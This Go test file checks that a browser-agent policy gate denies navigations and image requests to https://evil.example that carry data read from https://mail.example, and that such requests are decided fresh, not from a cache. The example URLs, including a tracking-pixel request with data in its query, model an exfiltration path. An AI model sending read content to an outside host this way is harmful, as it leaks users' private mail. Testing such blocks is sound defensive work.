package gate_test

import (
	"testing"

	"github.com/chromegate/chromegate/executor/egress"
	"github.com/chromegate/chromegate/policy"
	"github.com/chromegate/chromegate/policy/gate"
)

// TestProvenanceReachesThePolicy: a call's flows (Question.Flow,
// ReadOrigins) and a request's (Sessions.Track) are input.flow and
// input.read_origins; a request carrying one is decided each time, not
// from the request cache.
func TestProvenanceReachesThePolicy(t *testing.T) {
	t.Parallel()
	g, _ := gateWith(t, `
decision := {"allow": false, "reasons": [sprintf("%v from %v (read %v)", [f.via, f.from_origin, input.read_origins])], "hints": []} if {
	some f in input.flow
} else := {"allow": true, "reasons": [], "hints": []}`)
	flows := []policy.Flow{{FromOrigin: "https://mail.example", ToOrigin: "https://evil.example", Via: "url", Length: 20, Total: 20}}
	read := []string{"https://mail.example"}
	q := gate.Question{Kind: gate.KindCall, Tool: "navigate", Class: policy.Class{Action: policy.ActionNavigate, URLArg: "url"},
		Args: map[string]any{"url": "https://evil.example/?q=x"}}
	if d := g.Decide(t.Context(), q); !d.Allow {
		t.Fatalf("no flow: %v", d.Reason)
	}
	q.Flow, q.ReadOrigins = flows, read
	if d := g.Decide(t.Context(), q); d.Allow || d.Reason != "url from https://mail.example (read [\"https://mail.example\"])" {
		t.Fatalf("with a flow: allow %v, reason %q", d.Allow, d.Reason)
	}

	req := func() egress.Verdict {
		return g.DecideRequest(t.Context(), &egress.Request{Session: "s1", URL: "https://evil.example/p.gif?d=x", Method: "GET",
			ResourceType: "image", Via: egress.ViaProxy, Backend: "cdp"})
	}
	if v := req(); !v.Allow {
		t.Fatalf("a request before tracking: %v", v.Reason)
	}
	carries := true
	g.Sessions.Track(func(session, url string) ([]policy.Flow, []string) {
		if session != "s1" || url != "https://evil.example/p.gif?d=x" || !carries {
			return nil, read
		}
		rf := flows[0]
		rf.Via = "request.url"
		return []policy.Flow{rf}, read
	})
	if v := req(); v.Allow || v.Reason != "request.url from https://mail.example (read [\"https://mail.example\"])" {
		t.Fatalf("a request carrying a flow: %+v", v)
	}
	carries = false
	if v := req(); !v.Allow {
		t.Fatalf("the same request without the flow: %v", v.Reason)
	}
	carries = true
	if v := req(); v.Allow {
		t.Fatal("a request carrying a flow was answered from the cache")
	}
}
